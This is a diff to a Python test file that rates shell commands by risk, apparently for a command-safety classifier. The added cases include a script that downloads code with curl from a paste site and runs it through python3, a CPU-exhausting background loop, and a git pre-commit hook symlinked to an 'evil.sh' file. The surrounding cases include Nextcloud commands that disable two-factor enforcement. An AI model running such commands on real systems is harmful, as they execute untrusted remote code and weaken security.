@@ -1671,6 +1671,16 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
         ("sudo -u www-data php /var/www/nextcloud/occ twofactorauth:enforce --off", H),
         ("php /var/www/nextcloud/occ config:app:set core shareapi_enforce_links_password --value=no", H),
         ("sudo -u www-data php /var/www/nextcloud/occ maintenance:mode --on", M),
+        # structure: settings sourced from a file the script wrote; functions left running in the background
+        (
+            "cat > ~/.toolrc <<'EOF'\nSRC=https://paste.example.net/raw/8vT\nINTERP=python3\nEOF\n"
+            ". ~/.toolrc\n\"$INTERP\" -c \"$(curl -fsSL \"$SRC\")\"",
+            C,
+        ),
+        ("burn() { while :; do :; done; }\nfor i in 1 2 3 4; do burn & done", H),
+        ("serve() { python3 -m http.server 8000 --bind 127.0.0.1; }\nserve &", S),
+        ("ln -sf ../../scripts/pre-commit.sh .git/hooks/pre-commit", M),
+        ("ln -sf /tmp/x/evil.sh .git/hooks/pre-commit", H),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
